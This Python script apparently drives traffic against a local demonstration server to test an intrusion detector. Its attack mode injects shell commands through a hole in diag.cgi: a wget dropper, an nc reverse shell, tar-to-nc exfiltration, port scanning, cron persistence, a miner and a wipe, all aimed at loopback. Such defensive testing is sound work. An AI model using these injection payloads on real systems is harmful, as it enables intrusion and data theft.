#!/usr/bin/env python3
"""Requests to the demonstration's server.

    traffic.py normal PORT COUNT SEED     varied requests; says how many failed, and how many a second
    traffic.py steady PORT SECONDS SEED   the same for a time
    traffic.py paced PORT RATE SECONDS SEED
                                          the same at RATE requests a second, where that is kept up
    traffic.py until PORT FILE SEED       the same, slower, until FILE is there
    traffic.py attack PORT SITE ALERTS ROUNDS
                                          attacks of every kind through the hole in diag.cgi, and
                                          what the player's file of alerts says about each
    traffic.py delays ALERTS              from the event that raises an alarm to the stop

Only loopback is spoken to, and only the site's own directory is written to.
"""
import json
import math
import os
import random
import socket
import socketserver
import statistics
import sys
import threading
import time
from urllib.parse import quote

PAGES = ["/", "/index.html", "/style.css"] + [f"/docs/page{n}.html" for n in range(12)]


def request(port, method, path, body=None, timeout=10):
    """The whole answer."""
    head = f"{method} {path} HTTP/1.1\r\nHost: router\r\nConnection: close\r\n"
    if body is not None:
        head += f"Content-Length: {len(body)}\r\n"
    answer = b""
    with socket.create_connection(("127.0.0.1", port), timeout) as connection:
        connection.sendall((head + "\r\n").encode() + (body or b""))
        while part := connection.recv(65536):
            answer += part
    return answer


def normal(port, rng):
    """One request that a user makes; whether it was answered in full."""
    kind = rng.random()
    if kind < 0.4:
        answer = request(port, "GET", rng.choice(PAGES))
        return b" 200 OK" in answer
    if kind < 0.45:
        return b" 404 " in request(port, "GET", rng.choice(["/nope", "/favicon.ico", "/docs/x"]))
    if kind < 0.5:
        return b" 200 OK" in request(port, "HEAD", rng.choice(PAGES))
    if kind < 0.6:
        answer = request(port, "GET", "/cgi-bin/status.cgi")
    elif kind < 0.67:
        answer = request(port, "GET", "/cgi-bin/net.cgi")
    elif kind < 0.72:
        answer = request(port, "GET", "/cgi-bin/time.cgi")
    elif kind < 0.78:
        answer = request(port, "GET", f"/cgi-bin/log.cgi?n={rng.choice([5, 20, 100, 500])}")
    elif kind < 0.83:
        answer = request(port, "GET", "/cgi-bin/config.cgi")
    elif kind < 0.87:
        body = f"opt{rng.randrange(40)}={rng.randrange(999)}\n".encode()
        answer = request(port, "POST", "/cgi-bin/config.cgi", body)
    elif kind < 0.93:
        name = rng.choice([b"user=admin&pass=password\n", b"user=root&pass=x\n"])
        answer = request(port, "POST", "/cgi-bin/login.cgi", name)
    else:
        host = rng.choice(["127.0.0.1", "localhost", "127.0.0.2"])
        answer = request(port, "GET", f"/cgi-bin/diag.cgi?host={host}")
    return b"<end>" in answer


def send(port, seed, goes_on):
    rng = random.Random(seed)
    count = failed = 0
    start = time.monotonic()
    while goes_on(count):
        try:
            failed += not normal(port, rng)
        except OSError:
            failed += 1
        count += 1
    seconds = time.monotonic() - start
    print(f"{count} requests, {failed} failed, {count / seconds:.1f} a second")
    return failed


def pace(port, rate, seconds, seed):
    """One client that begins a request every 1 / rate seconds, or as soon as it can after that."""
    rng = random.Random(seed)
    count, failed, times = round(rate * seconds), 0, []
    start = time.monotonic()
    for number in range(count):
        due = start + number / rate
        if (wait := due - time.monotonic()) > 0:
            time.sleep(wait)
        begin = time.monotonic()
        try:
            failed += not normal(port, rng)
        except OSError:
            failed += 1
        times.append(1000 * (time.monotonic() - begin))
    seconds = max(time.monotonic() - start, count / rate)
    times.sort()
    print(
        f"{count} requests, {failed} failed, {count / seconds:.1f} a second, answered in "
        f"{statistics.median(times):.1f} ms (median), {times[math.ceil(0.99 * count) - 1]:.1f} (99 %)")
    return failed


class Sink(socketserver.BaseRequestHandler):
    """Takes what is stolen."""

    def handle(self):
        try:
            while self.request.recv(65536):
                pass
        except OSError:
            pass


class Shell(socketserver.BaseRequestHandler):
    """Whom the reverse shell belongs to."""

    def handle(self):
        self.request.settimeout(0.3)
        commands = ["id", "uname -a", "cat /etc/passwd", "ps", f"echo shell > {Shell.proof}"]
        try:
            for command in commands:
                self.request.sendall(command.encode() + b"\n")
                time.sleep(0.03)
                try:
                    self.request.recv(65536)
                except socket.timeout:
                    pass
            self.request.sendall(b"exit\n")
        except OSError:
            pass


class Web(socketserver.BaseRequestHandler):
    """Where the dropper gets its program."""

    def handle(self):
        self.request.recv(4096)
        body = f"#!{Web.site}/bin/sh\nPATH={Web.site}/bin\nuname -m; head -n 4 /proc/cpuinfo\n"
        body += f"for i in 1 2 3 4 5; do echo $i > {Web.site}/run/d$i; done\n"
        self.request.sendall(
            f"HTTP/1.0 200 OK\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())


def serve(handler):
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


def attack(port, site, kind):
    """Runs the commands of an attack; the last one leaves a proof that it came to its end."""
    run = f"{site}/run"
    proof = f"{run}/finished"
    Shell.proof = proof
    Web.site = site
    ports = " ".join(str(random.randint(20000, 30000)) for _ in range(16))
    commands = {
        "id": "id;whoami",
        "recon": "uname -a;cat /etc/passwd;ps;ls -la /;netstat -tln;cat /proc/version;df;mount",
        "dropper": f"wget -q http://127.0.0.1:{Web.port}/p -O {run}/x;chmod +x {run}/x;{run}/x",
        "revshell": f"nc 127.0.0.1 {Shell.port} -e {site}/bin/sh",
        "exfil": f"tar c -C {site} etc 2>/dev/null | nc -w 1 127.0.0.1 {Sink.port}",
        "scan": f"for p in {ports}; do nc -w 1 127.0.0.1 $p </dev/null; done",
        "persist": f'mkdir -p {run}/.h;echo "* * * * * {run}/.h/a" > {run}/.h/cron;'
        f"cp {site}/bin/busybox {run}/.h/a;chmod 755 {run}/.h/a;"
        f"for i in 1 2 3 4;do date >> {run}/.h/l;sleep 0.02;done",
        "miner": "for i in 1 2 3 4 5;do dd if=/dev/urandom bs=4k count=40 2>/dev/null|sha256sum;"
        "done",
        "wipe": f"mkdir -p {run}/w;for i in 1 2 3 4 5 6 7 8;do echo $i>{run}/w/$i;done;"
        f"rm -rf {run}/w;sync",
    }
    tail = "" if kind == "revshell" else f";echo done > {proof}"
    remove(proof)
    start = time.monotonic_ns()
    try:
        request(port, "GET", "/cgi-bin/diag.cgi?host=" + quote("127.0.0.1;" + commands[kind] + tail))
    except OSError:
        pass
    time.sleep(0.1)
    return start, os.path.exists(proof)


KINDS = ["id", "recon", "dropper", "revshell", "exfil", "scan", "persist", "miner", "wipe"]


def remove(file):
    if os.path.exists(file):
        os.remove(file)


def read_alerts(file):
    with open(file, encoding="ascii") as lines:
        return [json.loads(line) for line in lines]


def attack_all(port, site, alerts, rounds):
    """Whether every attack was stopped before it came to its end."""
    Web.port, Shell.port, Sink.port = serve(Web), serve(Shell), serve(Sink)
    stopped_all = True
    print(f"{'attack':10} {'stopped':>10} {'finished':>9} {'events':>8} {'ms':>8}  raised by")
    for kind in KINDS:
        rows = []
        for _ in range(rounds):
            seen = len(read_alerts(alerts))
            start, is_finished = attack(port, site, kind)
            found = [a for a in read_alerts(alerts)[seen:] if a.get("action") in ("stopped", "killed")]
            rows.append((found[0] if found else None, start, is_finished))
        hits = [(a, start) for a, start, _ in rows if a]
        finished = sum(is_finished for _, _, is_finished in rows)
        stopped_all &= finished == 0 and len(hits) == rounds
        events = statistics.median(a["job_events"] for a, _ in hits) if hits else 0
        times = [(a["time_ns"] + 1000 * a["delay_us"] - start) / 1e6 for a, start in hits]
        names = sorted({a["name"] for a, _ in hits})
        print(
            f"{kind:10} {len(hits):4} of {rounds:2} {finished:9} {events:8.0f} "
            f"{statistics.median(times) if times else 0:8.1f}  {' '.join(names)}", flush=True)
    return stopped_all


def delays(alerts):
    """Prints how long responses took."""
    lines = read_alerts(alerts)
    signal = sorted(a["delay_us"] for a in lines if a.get("action") in ("stopped", "killed"))
    last = sorted(a["last_event_us"] for a in lines if "ended" in a)
    after = sorted(a["events_after"] for a in lines if "ended" in a)
    for name, values in [
        ("to the signal, us", signal),
        ("to the last system call of all stopped processes, us", last),
        ("system calls in between", after),
    ]:
        if values:
            high = values[min(len(values) - 1, math.ceil(0.99 * len(values)) - 1)]
            print(
                f"{name}: median {statistics.median(values):.0f}, 99th percentile {high}, "
                f"largest {values[-1]}, of {len(values)}")


def main():
    mode, rest = sys.argv[1], sys.argv[2:]
    if mode == "normal":
        count = int(rest[1])
        sys.exit(send(int(rest[0]), int(rest[2]), lambda sent: sent < count) > 0)
    if mode == "steady":
        end = time.monotonic() + float(rest[1])
        sys.exit(send(int(rest[0]), int(rest[2]), lambda sent: time.monotonic() < end) > 0)
    if mode == "paced":
        sys.exit(pace(int(rest[0]), float(rest[1]), float(rest[2]), int(rest[3])) > 0)
    if mode == "until":
        sys.exit(send(int(rest[0]), int(rest[2]), lambda sent: is_going_on(rest[1])) > 0)
    if mode == "attack":
        sys.exit(not attack_all(int(rest[0]), rest[1], rest[2], int(rest[3])))
    delays(rest[0])


def is_going_on(file):
    time.sleep(0.02)
    return not os.path.exists(file)


main()
